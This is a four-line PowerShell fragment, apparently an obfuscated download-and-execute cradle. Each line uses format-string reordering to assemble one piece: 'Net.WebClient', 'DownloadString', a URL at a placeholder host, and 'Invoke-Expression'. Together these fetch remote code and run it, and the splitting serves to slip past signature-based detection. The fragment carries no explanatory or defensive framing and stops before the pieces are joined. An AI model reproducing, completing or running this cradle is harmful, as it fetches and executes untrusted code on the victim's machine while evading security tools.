$a = ("{1}{2}{0}" -f 'ent','Net.We','bCli')
$b = ("{1}{0}" -f 'loadString','Down')
$c = ('{2}{1}{0}' -f 'nvalid/a','ces.i','https://pie')
$d = ("{1}{0}" -f 'ression','Invoke-Exp')
